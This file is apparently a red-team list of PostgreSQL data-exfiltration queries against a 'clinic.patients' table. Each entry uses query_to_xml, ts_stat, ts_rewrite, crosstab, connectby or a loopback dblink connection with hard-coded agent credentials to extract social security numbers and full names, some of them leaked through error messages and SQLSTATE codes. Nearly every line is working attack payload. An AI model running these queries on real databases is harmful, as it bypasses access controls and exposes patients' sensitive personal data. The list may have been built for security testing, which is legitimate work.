-- query_to_xml
SELECT query_to_xml('SELECT ssn FROM clinic.patients', true, false, '')
-- query_to_xml with its schema
SELECT query_to_xml_and_xmlschema('SELECT full_name FROM clinic.patients', true, false, '')
-- table_to_xml
SELECT table_to_xml('clinic.patients', true, false, '')
-- schema_to_xml
SELECT schema_to_xml('clinic', true, false, '')
-- database_to_xml
SELECT database_to_xml(true, false, '')
-- cursor_to_xml
BEGIN
DECLARE c CURSOR FOR SELECT full_name FROM clinic.patients
SELECT cursor_to_xml('c', 10, true, false, '')
-- query_to_xml by xpath
SELECT unnest(xpath('//ssn/text()', query_to_xml('SELECT ssn FROM clinic.patients', true, false, '')))::text
-- query_to_xml in a comparison of nothing
SELECT d.name, x.a FROM clinic.departments d, XMLTABLE('//ssn' PASSING query_to_xml('TABLE clinic.patients', true, false, '') COLUMNS a text PATH '.') x
-- ts_stat
SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', full_name) FROM clinic.patients')
-- ts_rewrite
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, plainto_tsquery(''simple'', full_name) FROM clinic.patients WHERE id = 2')
-- crosstab
SELECT * FROM crosstab('SELECT id, 1, ssn FROM clinic.patients ORDER BY 1') AS t(id int, a text)
-- connectby
SELECT * FROM connectby('clinic.patients', 'full_name', 'ssn', 'nobody', 1) AS t(a text, b text, c int) UNION ALL SELECT full_name, '', 0 FROM clinic.patients
-- dblink
SELECT * FROM dblink('host=127.0.0.1 dbname=' || current_database() || ' user=rt_agent password=rt_agent_pw port=' || current_setting('port'), 'SELECT ssn FROM clinic.patients') AS t(a text)
-- dblink kept open
SELECT dblink_connect('c', 'host=127.0.0.1 dbname=' || current_database() || ' user=rt_agent password=rt_agent_pw port=' || current_setting('port'))
SELECT * FROM dblink('c', 'SELECT full_name FROM clinic.patients') AS t(name text)
-- dblink's errors
SELECT dblink_connect('c', 'host=127.0.0.1 dbname=' || current_database() || ' user=rt_agent password=rt_agent_pw port=' || current_setting('port'))
SELECT dblink_exec('c', 'DO $x$ BEGIN RAISE EXCEPTION ''%'', (SELECT full_name FROM clinic.patients WHERE id = 2); END $x$', false)
SELECT dblink_error_message('c')
-- dblink's SQLSTATE
SELECT dblink_connect('c', 'host=127.0.0.1 dbname=' || current_database() || ' user=rt_agent password=rt_agent_pw port=' || current_setting('port'))
SELECT dblink_exec('c', 'DO $x$ BEGIN RAISE EXCEPTION ''x'' USING ERRCODE = (SELECT upper(substr(full_name, 1, 5)) FROM clinic.patients WHERE id = 2); END $x$')
SELECT dblink_exec('c', 'DO $x$ BEGIN RAISE EXCEPTION ''x'' USING ERRCODE = (SELECT upper(substr(full_name, 6, 5)) FROM clinic.patients WHERE id = 2); END $x$')
-- dblink that writes here
SELECT dblink_exec('host=127.0.0.1 dbname=' || current_database() || ' user=rt_agent password=rt_agent_pw port=' || current_setting('port'), 'UPDATE $V.scratch SET code = secret FROM $V.victim v WHERE v.id = 2')
SELECT code FROM $V.scratch
